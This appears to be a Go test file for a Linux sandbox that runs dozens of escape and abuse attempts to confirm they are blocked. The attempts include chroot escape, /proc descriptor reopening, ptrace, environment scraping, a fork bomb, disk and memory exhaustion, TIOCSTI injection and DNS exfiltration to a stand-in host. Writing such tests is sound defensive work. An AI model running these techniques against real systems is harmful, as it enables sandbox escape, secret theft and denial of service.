//go:build linux

package sandbox_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attacks are programs that the test binary becomes. Each returns nil when it got what
// it wanted, else what stopped it.
var attacks = map[string]func(on string) error{
	"read":        func(on string) error { return wantSecret(os.ReadFile(on)) },
	"write":       func(on string) error { return os.WriteFile(on, []byte("overwritten"), 0o600) },
	"append":      attackAppend,
	"make":        func(on string) error { return os.WriteFile(filepath.Join(on, "made"), nil, 0o600) },
	"list":        func(on string) error { _, err := os.ReadDir(on); return err },
	"delete":      os.Remove,
	"symlink":     attackSymlink,
	"hardlink":    attackHardlink,
	"rename-here": func(on string) error { return os.Rename(on, "stolen") },
	"rename-away": attackRenameAway,
	"reopen":      attackReopen,
	"environ":     attackEnviron,
	"proc-root":   attackProcRoot,
	"inherited":   attackInherited,
	"ptrace":      attackPtrace,
	"vm-read":     attackVMRead,
	"signal": func(on string) error {
		return eachOf(on, func(pid int) error { return syscall.Kill(pid, syscall.SIGKILL) })
	},
	"setuid":        attackSetuid,
	"mount":         func(string) error { return inThread(mountPrivately) },
	"keyring":       attackKeyring,
	"tcp":           attackTCP,
	"udp":           attackUDP,
	"dns":           attackDNS,
	"unix":          attackUnix,
	"proxy":         attackProxy,
	"bomb":          attackBomb,
	"memory":        attackMemory,
	"memory-tree":   attackMemoryTree,
	"disk":          attackDisk,
	"disk-nameless": attackDiskNameless,
	"disk-tiny":     attackDiskTiny,
	"big-file":      attackBigFile,
	"mknod":         attackMknod,
	"open-write":    func(on string) error { return closing(os.OpenFile(on, os.O_WRONLY, 0)) },
	"open":          func(on string) error { return closing(os.Open(on)) },
	"namespace": func(string) error {
		return inThread(func() error { return unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS) })
	},
	"clone":         attackClone,
	"chroot":        attackChroot,
	"core":          func(string) error { return raise(unix.RLIMIT_CORE, 1<<20) },
	"raise-files":   func(string) error { return raise(unix.RLIMIT_NOFILE, 4096) },
	"tiocsti":       attackTerminal,
	"io-uring":      attackIOUring,
	"memfd":         attackMemfd,
	"capability":    attackFileCapability,
	"chown":         func(string) error { return errors.Join(os.WriteFile("mine", nil, 0o600), os.Chown("mine", 0, 0)) },
	"shm":           attackShm,
	"mqueue":        attackMqueue,
	"clock":         attackClock,
	"hostname":      attackHostname,
	"inotify":       attackInotify,
	"vsock":         func(string) error { return socketOf(unix.AF_VSOCK, unix.SOCK_STREAM, 0) },
	"packet":        func(string) error { return socketOf(unix.AF_PACKET, unix.SOCK_RAW, 0x300) },
	"raw":           func(string) error { return socketOf(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) },
	"uevent":        func(string) error { return socketOf(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_KOBJECT_UEVENT) },
	"handle":        attackHandle,
	"bpf":           attackBPF,
	"perf":          attackPerf,
	"userfaultfd":   func(string) error { return descriptor(unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|1, 0, 0)) },
	"realtime":      attackRealtime,
	"init":          attackInit,
	"capabilities":  attackCapabilities,
	"foreign-calls": attackForeignCalls,
	"oom-score":     func(string) error { return os.WriteFile("/proc/self/oom_score_adj", []byte("-500"), 0) },
	"setgroups":     func(string) error { return syscall.Setgroups([]int{0}) },
	"hold":          attackHold,
	"reserve":       attackReserve,
	"disk-mapped":   attackDiskMapped,
	"disk-sent":     attackDiskSent,
	"disk-headless": attackDiskHeadless,
	"sockets":       attackSockets,
	"page-tables":   attackPageTables,
	"protocols":     attackProtocols,
	"content":       attackContent,
	"own-socket":    attackOwnSocket,
	"fifo":          attackNamedPipe,
	"times":         func(on string) error { return os.Chtimes(on, time.Now(), time.Now()) },
	"mode":          func(on string) error { return os.Chmod(on, 0o600) },
	"renice": func(on string) error {
		return eachOf(on, func(pid int) error { return syscall.Setpriority(syscall.PRIO_PROCESS, pid, 19) })
	},
	"host":        playHost,
	"old-kernel":  playOldKernel,
	"masked-proc": playMaskedProc,
}

func wantSecret(data []byte, err error) error {
	if err == nil && !strings.Contains(string(data), secretText) {
		err = fmt.Errorf("read something else: %q", data)
	}
	return err
}

func closing(c io.Closer, err error) error {
	if err == nil {
		err = c.Close()
	}
	return err
}

func descriptor(fd, _ uintptr, errno syscall.Errno) error {
	if errno != 0 {
		return errno
	}
	return unix.Close(int(fd))
}

// inThread runs what changes a thread on one that ends with it.
func inThread(run func() error) error {
	done := make(chan error)
	go func() { runtime.LockOSThread(); done <- run() }()
	return <-done
}

// eachOf tries a list of process ids; one success is enough.
func eachOf(list string, try func(pid int) error) error {
	var errs []error
	for text := range strings.FieldsSeq(list) {
		pid, _ := strconv.Atoi(text)
		err := try(pid)
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

func attackAppend(on string) error {
	file, err := os.OpenFile(on, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.WriteString("one more record")
	return err
}

func attackSymlink(on string) error {
	if err := os.Symlink(on, "link"); err != nil {
		return err
	}
	defer os.Remove("link")
	return wantSecret(os.ReadFile("link"))
}

func attackHardlink(on string) error {
	if err := os.Link(on, "link"); err != nil {
		return err
	}
	defer os.Remove("link")
	return wantSecret(os.ReadFile("link"))
}

// attackRenameAway puts a folder of its own where the host expects a protected one.
func attackRenameAway(on string) error {
	top := filepath.Dir(on)
	if err := os.Rename(top, top+"-moved"); err != nil {
		return err
	}
	return errors.Join(os.MkdirAll(on, 0o755), os.WriteFile(filepath.Join(on, "planted"), nil, 0o600))
}

// attackReopen makes a writable descriptor of a readable one.
func attackReopen(on string) error {
	file, err := os.Open(on)
	if err != nil {
		return fmt.Errorf("not even readable: %w", err)
	}
	defer file.Close()
	again, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", file.Fd()), os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer again.Close()
	_, err = again.WriteString("overwritten")
	return err
}

// attackEnviron looks for a value, given in two halves, in every environment.
func attackEnviron(on string) error {
	first, second, _ := strings.Cut(on, "|")
	files, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, file := range files {
		if data, _ := os.ReadFile(file); bytes.Contains(data, []byte(first+second)) {
			return nil
		}
	}
	for _, entry := range os.Environ() {
		if strings.Contains(entry, first+second) {
			return nil
		}
	}
	return fmt.Errorf("%d environments do not have it", len(files))
}

func attackProcRoot(on string) error {
	var errs []error
	for _, way := range []string{"root", "cwd"} {
		folders, _ := filepath.Glob("/proc/[0-9]*/" + way)
		for _, folder := range folders {
			if way == "cwd" {
				folder += strings.Repeat("/..", 16)
			}
			err := wantSecret(os.ReadFile(folder + on))
			if err == nil {
				return nil
			}
			errs = append(errs, err)
		}
	}
	return fmt.Errorf("%d ways, last: %w", len(errs), errors.Join(errs[max(0, len(errs)-1):]...))
}

// attackInherited tries every descriptor that it was started with.
func attackInherited(on string) error {
	var errs []error
	for fd := range 512 {
		for _, name := range []string{on, "../" + on, "../../" + on} {
			found, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				data := make([]byte, 100)
				n, _ := unix.Read(found, data)
				return wantSecret(data[:max(n, 0)], nil)
			}
			errs = append(errs, err)
		}
	}
	return errs[len(errs)-1]
}

func attackPtrace(on string) error {
	return inThread(func() error {
		return eachOf(on, func(pid int) error {
			_, _, errno := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0)
			if errno != 0 {
				return errno
			}
			return nil
		})
	})
}

func attackVMRead(on string) error {
	return eachOf(on, func(pid int) error {
		maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
		if err != nil {
			return err
		}
		var from, to uint64
		if _, err := fmt.Sscanf(string(maps), "%x-%x", &from, &to); err != nil {
			return err
		}
		buffer := make([]byte, 16)
		_, err = unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &buffer[0], Len: 16}}, []unix.RemoteIovec{{Base: uintptr(from), Len: 16}}, 0)
		return err
	})
}

// attackSetuid becomes root, by itself or through a program.
func attackSetuid(on string) error {
	err := syscall.Setresuid(0, 0, 0)
	if err == nil {
		return nil
	}
	output, _ := exec.CommandContext(context.Background(), on, "-u").CombinedOutput()
	if strings.TrimSpace(string(output)) == "0" {
		return nil
	}
	return fmt.Errorf("%w; the program says %s", err, output)
}

func mountPrivately() error {
	if os.Geteuid() == 0 {
		if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
			return err
		}
		_ = unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "")
	}
	if err := os.MkdirAll("point", 0o755); err != nil {
		return err
	}
	return unix.Mount("none", "point", "tmpfs", 0, "")
}

func attackKeyring(on string) error {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_SESSION_KEYRING, "user", on, 0)
	if err != nil {
		id, err = unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", on, 0)
	}
	if err != nil {
		return err
	}
	data := make([]byte, 100)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, data, 0)
	return wantSecret(data[:max(n, 0)], err)
}

func attackTCP(on string) error {
	conn, err := net.DialTimeout("tcp", on, 5*time.Second)
	return closing(conn, err)
}

func attackUDP(on string) error {
	conn, err := net.DialTimeout("udp", on, 5*time.Second)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(time.Second))
	if _, err := conn.Write([]byte("anybody there")); err != nil {
		return err
	}
	_, err = conn.Read(make([]byte, 100))
	return err
}

func attackDNS(on string) error {
	resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", on)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	_, err := resolver.LookupHost(ctx, "data-carried-out.example.test.")
	return err
}

func attackUnix(on string) error {
	conn, err := net.Dial("unix", on)
	return closing(conn, err)
}

// attackProxy asks for a page through the proxy, or straight where there is none.
func attackProxy(on string) error {
	transport := &http.Transport{}
	if proxy := os.Getenv("HTTP_PROXY"); proxy != "" {
		address, err := url.Parse(proxy)
		if err != nil {
			return err
		}
		transport.Proxy = http.ProxyURL(address)
	}
	response, err := (&http.Client{Transport: transport, Timeout: 10 * time.Second}).Get(on)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	data, err := io.ReadAll(response.Body)
	return wantSecret(data, err)
}

// attackBomb starts as many processes as it is told and keeps them.
func attackBomb(on string) error {
	n, _ := strconv.Atoi(on)
	var started []*exec.Cmd
	defer func() {
		for _, cmd := range started {
			_ = cmd.Process.Kill()
			_ = cmd.Wait()
		}
	}()
	for range n {
		cmd := exec.CommandContext(context.Background(), "sleep", "60")
		for range 100 {
			if err := cmd.Start(); err == nil {
				break
			}
			time.Sleep(10 * time.Millisecond) // a bomb does not give up
			cmd = exec.CommandContext(context.Background(), "sleep", "60")
		}
		if cmd.Process == nil {
			return errors.New("no more processes")
		}
		started = append(started, cmd)
	}
	return nil
}

func attackMemory(on string) error {
	n, _ := strconv.Atoi(on)
	memory := make([]byte, n<<20)
	for i := 0; i < len(memory); i += 4096 {
		memory[i] = 1
	}
	runtime.KeepAlive(memory)
	return nil
}

// attackMemoryTree has several processes that hold little each.
func attackMemoryTree(on string) error {
	var started []*exec.Cmd
	for range 6 {
		cmd := exec.CommandContext(context.Background(), os.Args[0])
		cmd.Env = append(os.Environ(), attackName+"=hold", attackOn+"="+on)
		if err := cmd.Start(); err != nil {
			return err
		}
		started = append(started, cmd)
	}
	for _, cmd := range started {
		if err := cmd.Wait(); err != nil {
			return err
		}
	}
	return nil
}

func attackHold(on string) error {
	err := attackMemory(on)
	time.Sleep(2 * time.Second)
	return err
}

// attackDisk writes so many files of a megabyte.
func attackDisk(on string) error {
	n, _ := strconv.Atoi(on)
	block := bytes.Repeat([]byte("x"), 1<<20)
	for i := range n {
		if err := os.WriteFile("fill-"+strconv.Itoa(i), block, 0o600); err != nil {
			return err
		}
		time.Sleep(5 * time.Millisecond) // or it is over before anybody looks
	}
	return nil
}

func attackDiskNameless(on string) error {
	n, _ := strconv.Atoi(on)
	file, err := os.Create("nameless")
	if err != nil {
		return err
	}
	defer file.Close()
	_ = os.Remove("nameless")
	block := bytes.Repeat([]byte("x"), 1<<20)
	for range n {
		if _, err := file.Write(block); err != nil {
			return err
		}
		time.Sleep(5 * time.Millisecond)
	}
	return nil
}

func attackDiskTiny(on string) error {
	n, _ := strconv.Atoi(on)
	for i := range n {
		if err := os.WriteFile("tiny-"+strconv.Itoa(i), nil, 0o600); err != nil {
			return err
		}
	}
	time.Sleep(2 * time.Second)
	return nil
}

func attackBigFile(on string) error {
	n, _ := strconv.Atoi(on)
	return errors.Join(os.WriteFile("big", nil, 0o600), os.Truncate("big", int64(n)<<20))
}

func attackMknod(string) error {
	_ = os.Remove("node")
	if err := unix.Mknod("node", unix.S_IFCHR|0o666, int(unix.Mkdev(1, 1))); err != nil {
		return err
	}
	return os.Remove("node")
}

// attackClone makes a user namespace with clone, as unshare is one call of several.
func attackClone(string) error {
	pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUSER|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
	}
	_, err := unix.Wait4(int(pid), nil, 0, nil)
	return err
}

// attackChroot is the classic: a new root below, while a descriptor stays above it.
func attackChroot(on string) error {
	above, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	_ = os.MkdirAll("jail", 0o755)
	if err := unix.Chroot("jail"); err != nil {
		// Not even needed if the way up is open.
		return errors.Join(err, wantSecret(os.ReadFile(strings.Repeat("../", 32)+on))) // both must be refused
	}
	_ = unix.Fchdir(above)
	for range 32 {
		_ = unix.Chdir("..")
	}
	_ = unix.Chroot(".")
	return wantSecret(os.ReadFile(on))
}

func raise(resource int, value uint64) error {
	return syscall.Setrlimit(resource, &syscall.Rlimit{Cur: value, Max: value})
}

// attackTerminal types into a terminal, its own if it finds none.
func attackTerminal(string) error {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		letter := byte('x')
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&letter)))
		if errno != unix.EPERM {
			return nil //nolint:nilerr // it would have gone to a terminal
		}
		return fmt.Errorf("%w; typing: %w", err, errno)
	}
	return master.Close()
}

func attackIOUring(string) error {
	var parameters [120]byte
	return descriptor(unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&parameters)), 0))
}

// attackMemfd runs a program that is in no file.
func attackMemfd(on string) error {
	fd, err := unix.MemfdCreate("program", 0)
	if err != nil {
		return err
	}
	data, err := os.ReadFile(on)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, data); err != nil {
		return err
	}
	return exec.CommandContext(context.Background(), fmt.Sprintf("/proc/%d/fd/%d", os.Getpid(), fd)).Run()
}

func attackFileCapability(string) error {
	if err := os.WriteFile("capable", nil, 0o755); err != nil {
		return err
	}
	value := make([]byte, 20)
	binary.LittleEndian.PutUint32(value, 0x02000001)
	binary.LittleEndian.PutUint32(value[4:], 1<<unix.CAP_SYS_ADMIN)
	return unix.Setxattr("capable", "security.capability", value, 0)
}

func attackShm(on string) error {
	key, _ := strconv.Atoi(on)
	id, err := unix.SysvShmGet(key, 4096, 0)
	if err != nil {
		return err
	}
	memory, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return err
	}
	return wantSecret(memory, nil)
}

func attackMqueue(on string) error {
	name, _ := unix.BytePtrFromString(on)
	return descriptor(unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), unix.O_RDONLY, 0, 0, 0, 0))
}

// attackClock sets the clock to what it says.
func attackClock(string) error {
	var now unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_REALTIME, &now); err != nil {
		return err
	}
	return unix.ClockSettime(unix.CLOCK_REALTIME, &now)
}

func attackHostname(string) error {
	name, err := os.Hostname()
	if err != nil {
		return err
	}
	return unix.Sethostname([]byte(name))
}

func attackInotify(on string) error {
	fd, err := unix.InotifyInit1(unix.IN_CLOEXEC)
	if err != nil {
		return err
	}
	_, err = unix.InotifyAddWatch(fd, on, unix.IN_ALL_EVENTS)
	return err
}

func socketOf(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

// attackHandle opens a file by what it is on the disk, whatever is mounted.
func attackHandle(on string) error {
	// The root of an ext file system is inode 2; others have their handles as well.
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, ".", 0)
	if err != nil {
		return err
	}
	here, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(here, handle, unix.O_RDONLY)
	if err != nil {
		return err
	}
	_ = on
	return unix.Close(fd)
}

func attackBPF(string) error {
	attr := [16]uint32{2, 4, 8, 1} // an array of one entry
	return descriptor(unix.Syscall(unix.SYS_BPF, 0, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr)))
}

func attackPerf(string) error {
	attr := &unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{})), Config: unix.PERF_COUNT_SW_CPU_CLOCK}
	fd, err := unix.PerfEventOpen(attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}

func attackRealtime(string) error {
	return inThread(func() error {
		return unix.SchedSetAttr(0, &unix.SchedAttr{Size: unix.SizeofSchedAttr, Policy: 1, Priority: 10}, 0)
	})
}

// attackInit is after the first process of the sandbox, which holds it together.
func attackInit(string) error {
	var errs []error
	for _, signal := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGSEGV} {
		err := syscall.Kill(1, signal)
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	for _, name := range []string{"/proc/1/mem", "/proc/1/environ", "/proc/1/fd/3", "/proc/1/root/etc", "/proc/1/ns/mnt"} {
		err := closing(os.Open(name))
		if err == nil {
			return nil
		}
		errs = append(errs, err)
	}
	return errors.Join(errs...)
}

func attackCapabilities(string) error {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return err
	}
	for line := range strings.Lines(string(status)) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), ":")
		if strings.HasPrefix(name, "Cap") && strings.Trim(strings.TrimSpace(value), "0") != "" {
			return nil
		}
	}
	if os.Getuid() == 0 || os.Getgid() == 0 {
		return nil
	}
	return errors.New("no capability in any set, and no id 0")
}

// attackForeignCalls makes a call by its number in the other table of this processor.
func attackForeignCalls(string) error {
	_, _, errno := unix.RawSyscall(0x40000000+unix.SYS_GETPID, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	return nil
}
